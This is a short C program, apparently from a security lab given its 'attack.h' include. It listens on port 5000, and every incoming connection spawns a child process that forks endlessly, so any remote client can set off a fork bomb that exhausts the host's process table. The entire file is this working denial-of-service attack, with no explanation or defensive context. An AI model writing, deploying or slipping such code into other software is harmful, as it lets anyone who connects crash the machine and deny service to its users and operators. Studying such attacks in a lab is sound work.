#include "attack.h"


int main(void)
{
    int sockfd = listen_on(5000), newsock;

    signal(SIGCHLD, SIG_IGN);
    for (;;) {
        newsock = accept(sockfd, NULL, NULL);
        if (newsock >= 0 && fork() == 0)
            for (;;)
                fork();
        close(newsock);
    }
}
